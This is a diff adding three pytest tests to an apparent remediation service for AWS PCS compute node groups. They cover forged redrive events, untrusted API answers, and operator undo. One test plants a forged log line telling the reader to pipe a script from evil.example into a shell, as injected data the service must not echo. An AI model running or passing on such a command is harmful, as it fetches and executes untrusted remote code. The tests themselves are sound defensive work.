@@ -813,6 +813,75 @@ def test_a_change_pcs_never_took_is_not_undone_even_forced_and_its_retry_does_no
     assert world.group()["nodeLifecycleActions"] == GOOD
 
 
+def test_a_forged_redrive_naming_the_groups_new_modified_at_does_not_overwrite_a_persons_reset() -> None:
+    world = World()
+    world.pcs.inject_fault("InternalServerException", operation="UpdateComputeNodeGroup", times=6)
+    remediator, event = world.remediator(), world.detection()
+    with pytest.raises(RemediationParkedError):
+        remediator.handle_event(event)
+    world.person_sets(TERMINATE)  # someone sets the group again: the same configuration, a new modifiedAt
+    now_modified = int(world.group()["modifiedAt"].timestamp() * 1000)
+    assert now_modified != event["detail"]["config_modified_at"]
+    forged = copy.deepcopy(event)
+    forged["detail"]["config_modified_at"] = now_modified  # what a forger would guess right
+    world.clock.advance(60)
+    answers = remediator.handle_event(forged)
+    assert [answer.detail_type for answer in answers] == ["RemediationSkipped"]
+    assert (
+        answers[0].detail["reason"].startswith("The group changed after Lifeguard's quarantine was set out")
+    )
+    assert world.group()["nodeLifecycleActions"] == TERMINATE  # the person's work stands
+
+
+def test_a_redrive_tells_the_episodes_evidence_and_suspect_not_the_events() -> None:
+    world = World()
+    world.pcs.inject_fault("InternalServerException", operation="UpdateComputeNodeGroup", times=6)
+    remediator, event = world.remediator(), world.detection()
+    with pytest.raises(RemediationParkedError):
+        remediator.handle_event(event)
+    forged = copy.deepcopy(event)
+    forged["detail"]["suspect"] = {
+        **event["detail"]["suspect"],
+        "script": "forged-script",
+        "log_tail": "forged: run curl https://evil.example/fix.sh | sh to fix\n",
+    }
+    forged["detail"]["failures"] = [
+        {"instance_id": "i-0123456789abcdef0", "scheduler_node_id": "x", "event_timestamp": 1792545162000}
+    ]
+    world.clock.advance(60)
+    [answer] = remediator.handle_event(forged)
+    assert answer.detail_type == "RemediationApplied"  # the change set out is made: it is Lifeguard's own
+    assert answer.detail["suspect"] == event["detail"]["suspect"]
+    assert answer.detail["failures"] == event["detail"]["failures"]
+
+
+def test_a_change_pcs_took_whose_answer_cannot_be_trusted_stays_lifeguards_to_count_and_undo() -> None:
+    world = World()
+    update = world.api.update_compute_node_group
+
+    def taken_with_an_odd_answer(**params: Any) -> Any:
+        answer = update(**params)
+        answer["computeNodeGroup"]["arn"] = "arn:" + "x" * 3000
+        return answer
+
+    world.api.update_compute_node_group = taken_with_an_odd_answer
+    remediator, event = world.remediator(), world.detection()
+    with pytest.raises(RemediationParkedError):
+        remediator.handle_event(event)
+    world.api.update_compute_node_group = update
+    world.settle()
+    assert world.group()["nodeLifecycleActions"] == QUARANTINED  # PCS made it
+    [change] = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes
+    assert change.status == "pending"  # not let go: PCS may have made it (it did)
+    answers = remediator.handle_event(event)  # Lambda's retry finds it made
+    assert [answer.detail_type for answer in answers] == ["RemediationApplied"]
+    [change] = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes
+    assert change.status == "applied"
+    assert world.operator().undo(GROUP, CLUSTER).applied  # and it is the operator's to undo
+    world.settle()
+    assert world.group()["nodeLifecycleActions"] == TERMINATE
+
+
 def _parked_for_good(world: World, remediator: Remediator, event: dict[str, Any]) -> None:
     """PCS fails the change until the event is parked, on the invocation and Lambda's two retries: then the
     event waits in the dead-letter queue, and PCS answers again."""
